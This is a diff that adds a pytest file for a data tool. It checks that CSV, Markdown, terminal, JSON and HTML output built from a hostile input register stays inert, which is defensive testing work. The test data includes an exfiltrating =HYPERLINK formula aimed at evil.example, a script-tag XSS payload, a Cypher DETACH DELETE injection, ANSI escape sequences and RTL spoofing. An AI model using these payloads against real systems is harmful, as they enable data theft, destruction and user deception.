@@ -1,0 +1,281 @@
+"""What the tool writes from a hostile register (tests/payloads.py): CSV that no spreadsheet runs as
+a formula, Markdown that renders as text (no HTML, links or images), terminal tables without raw
+control characters, and an HTML report that runs nothing and asks the network for nothing.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import subprocess
+import sys
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import ROOT
+from payloads import PAYLOADS, Written, write_register
+from test_cli_commands import cli, neo4j_env, no_neo4j_env
+
+from sourcing_graph.graph.formats import render
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+RAW_CONTROL = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]"
+)
+"""Characters that must not reach a terminal raw (everything invisible but the line feed)."""
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Written:
+    return write_register(tmp_path_factory.mktemp("outputs") / "hostile")
+
+
+@pytest.fixture(scope="module")
+def result(hostile: Written) -> dict[str, list[dict[str, Any]]]:
+    run = cli("analyze", str(hostile.folder), "--format", "json", env=no_neo4j_env())
+    assert run.returncode == 0, run.stderr
+    return json.loads(run.stdout)  # type: ignore[no-any-return]
+
+
+def exact(*args: str, env: dict[str, str]) -> tuple[int, str, str]:
+    """Run the CLI and read its output byte for byte (no newline translation)."""
+    run = subprocess.run(
+        [sys.executable, "-m", "sourcing_graph", *args], capture_output=True, env=env, cwd=ROOT,
+        timeout=300,
+    )  # fmt: skip
+    return run.returncode, run.stdout.decode("utf-8"), run.stderr.decode("utf-8")
+
+
+def text_of(value: Any, sep: str, yes: str = "yes", no: str = "no") -> str:
+    """A value as the formats spell it (independently of the code under test)."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return yes if value else no
+    if isinstance(value, list):
+        return sep.join(text_of(v, sep, yes, no) for v in value)
+    return str(value)
+
+
+def safe(value: Any) -> str:
+    text = text_of(value, "|", "true", "false")
+    is_number = isinstance(value, (int, float)) and not isinstance(value, bool)
+    return "'" + text if not is_number and text.startswith(TRIGGERS) else text
+
+
+def shown(text: str) -> str:
+    """How the table and Markdown show invisible characters."""
+    named = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}
+    return re.sub(
+        "[\x00-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]",
+        lambda m: (
+            named.get(m.group())
+            or (f"\\x{ord(m.group()):02x}" if ord(m.group()) < 256 else f"\\u{ord(m.group()):04x}")
+        ),
+        text,
+    )
+
+
+# -- CSV -------------------------------------------------------------------------------------------
+
+
+def test_analyze_csv_is_exact_and_runs_no_formula(hostile: Written, result: dict[str, Any]) -> None:
+    code, out, err = exact("analyze", str(hostile.folder), "--format", "csv", env=no_neo4j_env())
+    assert code == 0, err
+    table = list(csv.reader(io.StringIO(out, newline="")))
+    header, body = table[0], table[1:]
+    columns = header[1:]
+    expected = [
+        [key, *(safe(row.get(c)) for c in columns)] for key, rows in result.items() for row in rows
+    ]
+    assert body == expected
+    starts = {cell[:1] for line in body for cell in line}
+    assert not starts & set(TRIGGERS)
+    # every formula-like identifier was there to be neutralised
+    formulas = {p for p in PAYLOADS if p.startswith(TRIGGERS)}
+    assert {cell[1:] for line in body for cell in line if cell[:1] == "'"} & formulas == formulas
+
+
+def test_csv_keeps_numbers_numbers_and_neutralises_text() -> None:
+    result = {
+        "custom": [
+            {"lot": "-3", "score": -3, "annual_value": -0.5, "note": "@SUM(A1)", "ok": "C-07"},
+            {"lot": "+1", "score": 0, "annual_value": 1e21, "note": "\tx", "ok": ["=a", "b"]},
+        ]
+    }
+    rows = list(csv.reader(io.StringIO(render(result, "csv"))))
+    assert rows[1] == ["custom", "'-3", "-3", "-0.5", "'@SUM(A1)", "C-07"]
+    assert rows[2] == ["custom", "'+1", "0", "1e+21", "'\tx", "'=a|b"]
+
+
+@pytest.mark.neo4j
+def test_query_csv_is_exact_and_runs_no_formula(neo4j_store, hostile: Written) -> None:  # type: ignore[no-untyped-def]
+    from sourcing_graph.loaders.csv_reader import read_register
+
+    neo4j_store.load_register(read_register(hostile.folder))
+    cypher = (
+        "MATCH (s:Organisation) RETURN s.id AS `=id`, s.name AS name, -3 AS n, -0.5 AS f, "
+        "s.internal AS internal ORDER BY s.id"
+    )
+    rows = neo4j_store.read(cypher)
+    code, out, err = exact("query", cypher, "--format", "csv", env=neo4j_env(neo4j_store))
+    assert code == 0, err
+    table = list(csv.reader(io.StringIO(out, newline="")))
+    assert table[0] == ["'=id", "name", "n", "f", "internal"]
+    assert table[1:] == [
+        [safe(r["=id"]), safe(r["name"]), "-3", "-0.5", text_of(r["internal"], "", "true", "false")]
+        for r in rows
+    ]
+    assert len(rows) == len(PAYLOADS) + 1
+
+
+# -- Markdown --------------------------------------------------------------------------------------
+
+
+class Tags(HTMLParser):
+    """The elements of an HTML fragment and the text of each table cell, per table."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.tables: list[list[list[str]]] = []
+        self._cell: list[str] | None = None
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        if tag == "table":
+            self.tables.append([])
+        elif tag == "tr":
+            self.tables[-1].append([])
+        elif tag in ("td", "th"):
+            self._cell = []
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag in ("td", "th") and self._cell is not None:
+            self.tables[-1][-1].append("".join(self._cell))
+            self._cell = None
+
+    def handle_data(self, data: str) -> None:
+        if self._cell is not None:
+            self._cell.append(data)
+
+
+def test_markdown_renders_as_text(hostile: Written, result: dict[str, Any]) -> None:
+    from markdown_it import MarkdownIt
+
+    run = cli("analyze", str(hostile.folder), "--format", "markdown", env=no_neo4j_env())
+    assert run.returncode == 0, run.stderr
+    # html=True: a renderer that passes raw HTML through, the worst case
+    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(run.stdout)
+    parsed = Tags()
+    parsed.feed(html)
+    assert parsed.tags <= {"h2", "p", "table", "thead", "tbody", "tr", "th", "td"}, parsed.tags
+    non_empty = [(key, rows) for key, rows in result.items() if rows]
+    assert len(parsed.tables) == len(non_empty)
+    for table, (_, rows) in zip(parsed.tables, non_empty, strict=True):
+        columns = list(rows[0])
+        assert table[0] == columns
+        assert table[1:] == [[shown(text_of(row.get(c), ", ")) for c in columns] for row in rows]
+
+
+# -- the terminal ----------------------------------------------------------------------------------
+
+
+def test_tables_send_no_control_characters_to_the_terminal(
+    hostile: Written, result: dict[str, Any]
+) -> None:
+    run = cli("analyze", str(hostile.folder), "--all-rows", env=no_neo4j_env())
+    assert run.returncode == 0, run.stderr
+    assert not RAW_CONTROL.search(run.stdout)
+    assert "bell\\x07esc\\x1b[31mred\\x1b[0m" in run.stdout
+    assert "line1\\r\\nline2" in run.stdout and "\\u202eevil\\u202c gnp.exe" in run.stdout
+    lines = run.stdout.splitlines()
+    assert len(lines) == sum(len(rows) + 4 if rows else 2 for rows in result.values()) - 1
+
+
+@pytest.mark.neo4j
+def test_query_table_sends_no_control_characters(neo4j_store, hostile: Written) -> None:  # type: ignore[no-untyped-def]
+    from sourcing_graph.loaders.csv_reader import read_register
+
+    neo4j_store.load_register(read_register(hostile.folder))
+    run = cli(
+        "query",
+        "MATCH (l:Lot) RETURN l.id AS `lot\u001b[2J`, l.name AS name",
+        env=neo4j_env(neo4j_store),
+    )
+    assert run.returncode == 0, run.stderr
+    assert not RAW_CONTROL.search(run.stdout)
+    assert run.stdout.startswith("lot\\x1b[2J")
+    assert len(run.stdout.splitlines()) == len(PAYLOADS) + 3
+
+
+# -- the HTML report in a browser ------------------------------------------------------------------
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_the_report_of_the_hostile_register_runs_nothing(hostile: Written, tmp_path: Path) -> None:
+    from browser import Browser, require_chromium
+
+    require_chromium()
+    out = tmp_path / "report.html"
+    run = cli("report", str(hostile.folder), "-o", str(out), "--engine", "embedded",
+              env=no_neo4j_env())  # fmt: skip
+    assert run.returncode == 0, run.stderr
+    with Browser() as browser, browser.open(out) as (page, record):
+        page.wait_for_timeout(500)
+        assert page.evaluate("() => typeof window.__pwned") == "undefined"
+        assert page.evaluate(
+            "() => document.querySelectorAll('img, iframe, object, embed, a[href], svg[onload]')"
+            ".length"
+        ) == 0  # fmt: skip
+        assert page.evaluate("() => [...document.scripts].filter(s => s.src).length") == 0
+        text = page.inner_text("#analyses")
+        for payload in ("<script>window.__pwned=1</script>", "'}) DETACH DELETE n //",
+                        '=HYPERLINK("http://evil.example/?x="&A1,"click")'):  # fmt: skip
+            assert payload in text
+        assert record.problems() == []
+
+
+@pytest.mark.neo4j
+def test_error_messages_quote_user_text_escaped(neo4j_store) -> None:  # type: ignore[no-untyped-def]
+    code, _, err = exact("query", "RETURN '\x1b[2J\u202e' AS x x", env=neo4j_env(neo4j_store))
+    assert code == 1
+    assert "RETURN '\\x1b[2J\\u202e' AS x x" in err
+    assert not RAW_CONTROL.search(err)
+
+
+def test_the_starter_mapping_of_hostile_headers_is_valid_toml(tmp_path: Path) -> None:
+    import tomllib
+
+    headers = ["Kavel\x7f\u202e", "Leverancier\u2028x", "Boete\nx\x1b[2J", 'Contract "nr" `$x`']
+    export = tmp_path / "export.csv"
+    with open(export, "w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows([headers, ["K1\n[evil]", "acme", "ja", "C1"]])
+    code, out, err = exact("mapping", str(export), env=no_neo4j_env())
+    assert code == 0, err
+    assert not RAW_CONTROL.search(out)
+    assert "[evil]" not in out.replace("\\n[evil]", "")  # a sample value stays inside its comment
+    columns = tomllib.loads(out)["contracts"]["columns"]
+    assert set(columns) == set(headers)
+
+
+def test_json_is_exact_and_spells_invisible_characters_as_escapes(
+    hostile: Written, result: dict[str, Any]
+) -> None:
+    from sourcing_graph.graph.analyses import analyze
+    from sourcing_graph.loaders.csv_reader import read_register
+    from sourcing_graph.ontology.rules import load_rules
+
+    code, out, err = exact("analyze", str(hostile.folder), "--format", "json", env=no_neo4j_env())
+    assert code == 0, err
+    assert not RAW_CONTROL.search(out)
+    assert "\\u202e" in out and "\\u2028" in out
+    assert json.loads(out) == analyze(read_register(hostile.folder), load_rules())
+    code, out, err = exact("validate", str(hostile.folder), "--format", "json", env=no_neo4j_env())
+    assert code == 0, err
+    assert not RAW_CONTROL.search(out)
